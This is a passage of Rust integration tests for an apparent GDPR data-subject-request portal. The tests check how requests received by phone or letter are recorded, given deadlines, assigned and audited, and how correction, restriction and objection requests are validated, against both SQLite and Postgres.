    assert_eq!(location(&r), format!("/admin/requests/{id}"));
    let row = dsr_portal::db::requests::get(&mut app.conn(), &id)
        .unwrap()
        .unwrap();
    assert_eq!(row.channel, "phone");
    assert_eq!(row.received_at.date(), received);
    assert_eq!(row.status.as_str(), "awaiting_approval", "verified at once");
    let expected = deadline::compute(
        Jurisdiction::Gdpr,
        received,
        Some(received),
        &[],
        &Calendar::default(),
    )
    .unwrap();
    assert_eq!(
        row.due_on,
        Some(expected.due),
        "the clock runs from the day received"
    );
    let recorded = audited(&app, "recorded");
    assert_eq!(recorded.len(), 1);
    assert_eq!(recorded[0].actor, "admin:dpo@example.com");
    assert!(
        recorded[0]
            .detail
            .contains("Called back on the number on the account")
            && recorded[0].detail.contains("\"channel\":\"phone\""),
        "{}",
        recorded[0].detail
    );
    let page = d.text(&location(&r)).await;
    assert!(page.contains("Request recorded."), "{page}");
    assert!(
        page.contains(&format!(
            "Recorded by dpo@example.com: received by phone on {received}, identity verified."
        )),
        "{page}"
    );

    // By letter: the subject gets the confirmation link.
    let r = record(vec![
        ("email", "letter@example.com".to_owned()),
        ("kind", "access".to_owned()),
        ("channel", "letter".to_owned()),
        ("received", today.to_string()),
        ("identity", "link".to_owned()),
    ])
    .await;
    assert_eq!(r.status(), 303);
    let mail = app.smtp.wait_for_nth("letter@example.com", 1).await;
    assert!(mail.text.contains("/verify/"), "{}", mail.text);
    let register = d.text("/admin?view=all").await;
    assert!(register.contains("<td>Phone</td>") && register.contains("<td>Letter</td>"));
    let csv = d.text("/admin/register.csv?view=all").await;
    assert!(csv.lines().next().unwrap().ends_with(",channel"), "{csv}");
    assert!(
        csv.lines()
            .any(|l| l.starts_with(&id) && l.ends_with(",phone")),
        "{csv}"
    );
    let report = d
        .text(&format!("/admin/report.csv?year={}", today.year()))
        .await;
    if received.year() == today.year() {
        assert!(
            report.lines().any(|l| l.starts_with("channel,phone,1,")),
            "{report}"
        );
    }
    assert!(
        report.lines().any(|l| l.starts_with("channel,letter,1,")),
        "{report}"
    );

    // Assigned to kim: her "Mine" lists it, not the DPO's; reassigning is audited.
    let kim = dsr_portal::db::admins::by_email(&mut app.conn(), "kim@example.com")
        .unwrap()
        .unwrap()
        .id;
    let r = d.act(&id, "assign", &[("to", &kim)]).await;
    assert_eq!(r.status(), 303);
    let k = Desk::new(&app);
    k.login("kim@example.com", &kim_secret).await;
    assert!(k.text("/admin?view=mine").await.contains(&id));
    let mine = d.text("/admin?view=mine").await;
    assert!(
        !mine.contains(&id) && mine.contains("Nothing needs you now."),
        "{mine}"
    );
    assert!(
        d.text(&format!("/admin/requests/{id}"))
            .await
            .contains("<dd>kim@example.com</dd>")
    );
    let r = d.act(&id, "assign", &[("to", "no-such-account")]).await;
    assert_eq!(r.status(), 400);
    assert_eq!(audited(&app, "admin_action_refused").len(), 1);
    let assigned = audited(&app, "assigned");
    assert_eq!(assigned.len(), 1);
    assert!(assigned[0].detail.contains("\"to\":\"kim@example.com\""));

    // The digest: kim's copy marks her request.
    let days = (expected.due - app.portal.today()).whole_days() + 2;
    app.portal.clock.advance(time::Duration::days(days));
    app.settle().await;
    exec(&app, "DELETE FROM admin_digests");
    let subject = "Privacy requests: 1 overdue, 0 due within 7 days";
    let hers = app.smtp.wait_for_subject("kim@example.com", subject).await;
    assert!(hers.text.contains("assigned to you"), "{}", hers.text);
    let his = app.smtp.wait_for_subject("dpo@example.com", subject).await;
    assert!(
        his.text.contains(&id) && !his.text.contains("assigned to you"),
        "{}",
        his.text
    );

    // Reassigned to the DPO (a new session: the clock moved past the last one): from and
    // to, audited.
    let d = Desk::new(&app);
    d.login("dpo@example.com", &dpo).await;
    let r = d
        .act(
            &id,
            "assign",
            &[(
                "to",
                &dsr_portal::db::admins::by_email(&mut app.conn(), "dpo@example.com")
                    .unwrap()
                    .unwrap()
                    .id,
            )],
        )
        .await;
    assert_eq!(r.status(), 303);
    let assigned = audited(&app, "assigned");
    assert_eq!(assigned.len(), 2);
    assert!(
        assigned[1].detail.contains("\"from\":\"kim@example.com\"")
            && assigned[1].detail.contains("\"to\":\"dpo@example.com\""),
        "{}",
        assigned[1].detail
    );
}

#[actix_web::test]
async fn a_request_from_any_channel_and_its_assignee_on_sqlite() {
    a_request_from_any_channel_and_its_assignee(Backend::Sqlite).await;
}

#[actix_web::test]
async fn a_request_from_any_channel_and_its_assignee_on_postgres() {
    a_request_from_any_channel_and_its_assignee(Backend::Postgres).await;
}

/// The other three kinds recorded on the desk, with what only the subject's form used to
/// ask: a correction's values (only fields the map marks `rectify`), a restriction's reason,
/// an objection's scope and grounds. Bad details are answered on the form and record nothing.
async fn the_other_kinds_recorded_on_the_desk(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let dpo = desk::add(&app, "dpo@example.com", "dpo");
    let d = Desk::new(&app);
    d.login("dpo@example.com", &dpo).await;
    let page = d.text("/admin/requests/new").await;
    assert!(
        page.contains(r#"name="change.phone""#) && page.contains("Phone number"),
        "the map's correctable fields are offered: {page}"
    );
    let received = app.portal.today().to_string();
    let record =
        |email: &'static str, kind: &'static str, extra: Vec<(&'static str, &'static str)>| {
            let d = &d;
            let received = received.clone();
            async move {
                let csrf = d.csrf("/admin/requests/new").await;
                let mut form = vec![
                    ("csrf", csrf.as_str()),
                    ("email", email),
                    ("kind", kind),
                    ("channel", "letter"),
                    ("received", received.as_str()),
                    ("identity", "verified"),
                    ("reason", "Signed letter matching the account"),
                ];
                form.extend(extra);
                d.post("/admin/requests/new", &form).await
            }
        };

    // Refused in words, nothing recorded.
    for (kind, extra, says) in [
        (
            "rectification",
            vec![("change.phone", " ")],
            "at least one field",
        ),
        (
            "rectification",
            vec![("change.password_hash", "x")],
            "not a field that can be corrected",
        ),
        ("restriction", vec![], "Restriction: pick the subject"),
        ("objection", vec![("scope", "other")], "grounds"),
    ] {
        let r = record("bad@example.com", kind, extra).await;
        assert_eq!(r.status(), 400, "{kind}");
        let body = r.text().await.unwrap();
        assert!(body.contains(says), "{kind}: {says:?} in {body}");
    }
    assert!(audited(&app, "recorded").is_empty());

    let r = record(
        "fix@example.com",
        "rectification",
        vec![
            ("change.phone", "+44 20 7946 0000"),
            ("change.full_name", ""),
            ("words", "New number since May"),
        ],
    )
    .await;
    assert_eq!(r.status(), 303);
    let row = |email: &str| {
        let id = request_id(&app, email);
        dsr_portal::db::requests::get(&mut app.conn(), &id)
            .unwrap()
            .unwrap()
    };
    let fix = row("fix@example.com");
    let details = fix.details();
    assert_eq!(details.changes.len(), 1, "a blank field is no change");
    assert_eq!(details.changes["phone"], "+44 20 7946 0000");
    assert_eq!(details.note.as_deref(), Some("New number since May"));
    assert_eq!(fix.status.as_str(), "awaiting_approval");
    let review = d.text(&format!("/admin/requests/{}/review", fix.id)).await;
    assert!(review.contains("+44 20 7946 0000"), "{review}");

    let r = record(
        "stop@example.com",
        "restriction",
        vec![("ground", "legal_claims"), ("scope", "other")],
    )
    .await;
    assert_eq!(r.status(), 303);
    let stop = row("stop@example.com").details();
    assert_eq!(stop.ground.map(|g| g.as_str()), Some("legal_claims"));
    assert_eq!(stop.scope, None, "another kind's field is not taken");

    let r = record(
        "object@example.com",
        "objection",
        vec![("scope", "direct_marketing")],
    )
    .await;
    assert_eq!(r.status(), 303);
    let object = row("object@example.com");
    assert_eq!(
        object.details().scope.map(|s| s.as_str()),
        Some("direct_marketing")
    );
    assert_ne!(
        object.status.as_str(),
        "awaiting_approval",
        "an objection to direct marketing needs no decision"
    );
    assert_eq!(audited(&app, "recorded").len(), 3);
}

#[actix_web::test]
async fn the_other_kinds_recorded_on_the_desk_on_sqlite() {
    the_other_kinds_recorded_on_the_desk(Backend::Sqlite).await;
}

#[actix_web::test]
async fn the_other_kinds_recorded_on_the_desk_on_postgres() {
    the_other_kinds_recorded_on_the_desk(Backend::Postgres).await;
}
